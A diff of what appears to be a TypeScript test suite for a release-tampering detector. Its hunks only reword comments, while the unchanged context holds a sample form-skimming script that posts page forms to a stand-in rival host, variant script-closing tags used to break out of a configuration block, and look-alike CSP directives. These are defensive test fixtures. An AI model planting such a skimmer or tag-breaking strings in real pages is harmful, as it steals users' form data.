@@ -86,8 +86,8 @@ function changed(before: string, from: string | RegExp, to: string): string {
 }
 
 /**
- * Ways to end the configuration block in a browser other than `</script>`. After the last, the block continues to the app's
- * tag.
+ * Texts other than `</script>` that change the end of the configuration block in a browser. With `<!--<script>`, the block
+ * continues to the app's tag.
  */
 const BLOCK_ENDS = ['</SCRIPT>', '</script >', '</script/>', '</sCript\t>', '<!--<script>'];
 const inBlock = (end: string) =>
@@ -106,7 +106,7 @@ const BLOCK_TABLE = BLOCK_ENDS.flatMap((end): [what: string, tamper: Tamper, nam
 
 const SKIMMER = `<script>fetch("${RIVAL}",{method:"POST",body:document.forms})</script>`;
 
-/** The change, how it is made, and the findings that it causes. */
+/** Each change, the function that makes the change, and the expected findings. */
 const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
   // Bytes.
   ['one byte more at the end of the app', ofFile(APP, append('\n')), ['bytes-changed']],
@@ -369,7 +369,7 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     csp('base-uri', 'frame-ancestors https://a.example; base-uri'),
     ['csp-directive-added'],
   ],
-  // Directives that look the same, but that browsers ignore.
+  // Directives that look like the release's directives, but that browsers ignore.
   [
     'a directive with another blank in it, which is none',
     csp("base-uri 'none'", "base-uri\xa0'none'"),
@@ -694,7 +694,7 @@ describe('a tampered release', () => {
   });
 });
 
-/** Node supports zstd since 22.15. Without it, the check can't read zstd either. */
+/** Node has supported zstd since 22.15. Earlier versions can neither send nor check a reply in zstd. */
 const { zstdCompressSync } = zlib as { zstdCompressSync?: typeof zlib.brotliCompressSync };
 
 const inZstd = onlyFor(
